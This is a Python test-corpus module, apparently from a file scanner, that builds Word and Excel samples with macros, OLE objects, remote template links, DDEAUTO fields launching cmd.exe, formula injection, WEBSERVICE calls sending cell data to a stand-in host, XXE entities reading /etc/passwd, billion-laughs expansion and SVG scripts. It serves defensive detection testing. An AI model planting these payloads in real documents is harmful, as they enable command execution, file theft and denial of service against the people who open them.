"""Word and Excel files with macros, embedded objects, links to outside, commands and entities."""

from __future__ import annotations

from collections.abc import Iterator

from candour.platform.files.tests.corpus.making import TYPES, excel, outside, rebuilt, relationships, word
from candour.platform.files.tests.corpus.pretenders import OLD_OFFICE, PAGE, PROGRAM
from candour.platform.files.tests.corpus.sample import Sample

MAIN = b"wordprocessingml.document.main+xml"
SHEET_MAIN = b"spreadsheetml.sheet.main+xml"
ENTITY = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = b'<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
DECLARED = b"?>"


def samples() -> Iterator[Sample]:
    yield from _macros()
    yield from _embedded()
    yield from _outside()
    yield from _commands()
    yield from _entities()
    yield from _hidden_code()


def _macros() -> Iterator[Sample]:
    project = {"word/vbaProject.bin": OLD_OFFICE}
    yield Sample("macros", "letter.docm", word(), "macros")
    yield Sample("macros", "figures.xlsm", excel(), "macros")
    yield Sample("macros", "renamed docm.docx", rebuilt(word(), project), "macros")
    yield Sample("macros", "renamed xlsm.xlsx", rebuilt(excel(), {"xl/vbaProject.bin": OLD_OFFICE}), "macros")
    enabled = {TYPES: (b"openxmlformats-officedocument." + MAIN, b"ms-word.document.macroEnabled.main+xml")}
    yield Sample("macros", "macro type.docx", rebuilt(word(), change=enabled), "macros")
    kind = b'<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    yield Sample("macros", "other name.docx", rebuilt(word(), change={TYPES: (b"</Types>", kind)}), "macros")
    control = {"word/activeX/activeX1.xml": b"<a/>"}
    yield Sample("macros", "control.docx", rebuilt(word(), control), "macros")
    yield Sample("macros", "old macro sheet.xlsx", rebuilt(excel(), {"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros")


def _embedded() -> Iterator[Sample]:
    yield Sample("ole", "locked.docx", OLD_OFFICE, "password")
    yield Sample("ole", "object.docx", rebuilt(word(), {"word/embeddings/oleObject1.bin": OLD_OFFICE}), "embedded")
    yield Sample("ole", "renamed object.docx", rebuilt(word(), {"word/media/image1.png": OLD_OFFICE}), "embedded")
    yield Sample("ole", "by type.docx", _with_relationship(word(), outside("oleObject", "media/a.xml", "")), "macros")
    yield Sample("nested", "by its place.docx", rebuilt(word(), {"word/embeddings/a.xml": b"<a/>"}), "embedded")
    yield Sample("nested", "sheet.docx", rebuilt(word(), {"word/embeddings/sheet.xlsx": excel()}), "embedded")
    yield Sample("nested", "renamed archive.docx", rebuilt(word(), {"word/media/image1.jpeg": excel()}), "embedded")
    yield Sample(
        "nested", "packed.xlsx", rebuilt(excel(), {"xl/media/image1.emf": b"\x1f\x8b\x08" + bytes(50)}), "embedded"
    )


def _outside() -> Iterator[Sample]:
    for name, relationship in (
        ("template.docx", outside("attachedTemplate", "http://example.org/evil.dotm")),
        ("shared template.docx", outside("attachedTemplate", "file:///\\\\server\\share\\evil.dotm")),
        ("template by a relative path.docx", outside("attachedTemplate", "../../../evil.dotm")),
        ("linked object.docx", outside("oleObject", "http://example.org/x.xlsx")),
        ("linked picture.docx", outside("image", "https://example.org/track.png")),
        ("frame.docx", outside("frame", "https://example.org/")),
        ("part of another.docx", outside("subDocument", "other.docx")),
        ("small letters.docx", outside("image", "http://example.org/x", ' TargetMode="external"')),
        ("no mode.docx", outside("image", "http://example.org/x", "")),
        ("network.docx", outside("image", "\\\\server\\share\\x.png", "")),
    ):
        yield Sample("outside", name, _with_relationship(word(), relationship), "fetches something from outside")
    for name, target in (
        ("file link.docx", "file:///c:/windows/x.exe"),
        ("network link.docx", "\\\\server\\share"),
        ("script link.docx", "javascript:alert(1)"),
    ):
        linked = _with_relationship(word(), outside("hyperlink", target))
        yield Sample("outside", name, linked, "links to a file on another computer")
    yield Sample(
        "outside", "book.xlsx", rebuilt(excel(), {"xl/externalLinks/externalLink1.xml": b"<a/>"}), "from outside"
    )
    yield Sample("outside", "query.xlsx", rebuilt(excel(), {"xl/connections.xml": b"<a/>"}), "from outside")


def _commands() -> Iterator[Sample]:
    command = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
    for name, field in (
        ("simple.docx", f"<w:fldSimple w:instr='{command}'/>"),
        ("split.docx", _field_marks("DD", "EAU", 'TO cmd "/k calc"')),
        ("small letters.docx", _field_marks("ddeauto cmd")),
        ("quoted.docx", _field_marks('"DDE" cmd')),
        ("unended.docx", '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd</w:instrText></w:r>'),
        ("nested.docx", _nested("PAGE", "DDEAUTO cmd")),
        ("included.docx", _field_marks('INCLUDETEXT "http://example.org/x"')),
        ("included picture.docx", _field_marks('INCLUDEPICTURE "http://example.org/x"')),
    ):
        yield Sample("dde", name, _with_paragraph(field), "fetches something or starts a program")
    for name, formula in (
        ("command.xlsx", "=cmd|'/C calc'!A0"),
        ("web.xlsx", '=_xlfn.WEBSERVICE("http://example.org/"&A1)'),
        ("picture.xlsx", '=_xlfn.IMAGE("http://example.org/"&A1)'),
    ):
        yield Sample("dde", name, excel(formula), "fetches something or starts a program")


def _entities() -> Iterator[Sample]:
    for name, content, part, declaration in (
        ("external entity.docx", word(), "word/document.xml", ENTITY),
        ("a thousand laughs.docx", word(), "word/document.xml", LAUGHS),
        ("only declared.xlsx", excel(), "xl/workbook.xml", b"<!DOCTYPE workbook>"),
        ("external entity.xlsx", excel(), "xl/worksheets/sheet1.xml", ENTITY),
        ("in relationships.docx", word(), "_rels/.rels", ENTITY),
        ("in types.docx", word(), TYPES, ENTITY),
        ("in styles.xlsx", excel(), "xl/styles.xml", LAUGHS),
    ):
        changed = rebuilt(content, change={part: (DECLARED, DECLARED + declaration)})
        yield Sample("entities", name, changed, "declares entities")
    wide = ('<?xml version="1.0" encoding="UTF-16"?>' + ENTITY.decode() + "<d>&x;</d>").encode("utf-16")
    yield Sample("entities", "wide.docx", rebuilt(word(), {"customXml/item9.xml": wide}), "declares entities")
    yield Sample(
        "entities", "no xml name.docx", rebuilt(word(), {"word/media/a.png": ENTITY + b"<d/>"}), "declares entities"
    )


def _hidden_code() -> Iterator[Sample]:
    yield Sample("hidden code", "page.docx", rebuilt(word(), {"word/afchunk.html": PAGE}), "embedded")
    yield Sample("hidden code", "program.docx", rebuilt(word(), {"word/media/image1.png": PROGRAM}), "program")
    yield Sample(
        "hidden code", "library.docx", rebuilt(word(), {"word/helper.dll": PROGRAM}), "no Word or Excel document"
    )
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield Sample("hidden code", "drawing.docx", rebuilt(word(), {"word/media/image1.svg": drawing}), "script")
    broken = {"word/media/image1.svg": b"<svg><script"}
    yield Sample("hidden code", "broken drawing.docx", rebuilt(word(), broken), "damaged")
    for name, part, word_ in (
        ("drawing.xlsx", b"<xml><br><script>x</script></xml>", "script"),
        ("loose drawing.xlsx", b"<xml><br></xml><script>x</script>", "damaged"),
        ("declaring drawing.xlsx", b"<xml><br></xml><!ENTITY x 'y'>", "damaged"),
    ):
        yield Sample("hidden code", name, rebuilt(excel(), {"xl/drawings/vmlDrawing1.vml": part}), word_)


def _with_relationship(content: bytes, relationship: str) -> bytes:
    return rebuilt(content, {"word/_rels/header9.xml.rels": relationships(relationship)})


def _with_paragraph(inner: str) -> bytes:
    paragraph = f"<w:p>{inner}</w:p>".encode()
    return rebuilt(word(), change={"word/document.xml": (b"<w:sectPr", paragraph + b"<w:sectPr")})


def _field_marks(*pieces: str) -> str:
    marked = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"{_mark('begin')}{marked}{_mark('separate')}<w:r><w:t>x</w:t></w:r>{_mark('end')}"


def _nested(outer: str, inner: str) -> str:
    return f"{_mark('begin')}<w:r><w:instrText>{outer} </w:instrText></w:r>{_field_marks(inner)}{_mark('end')}"


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
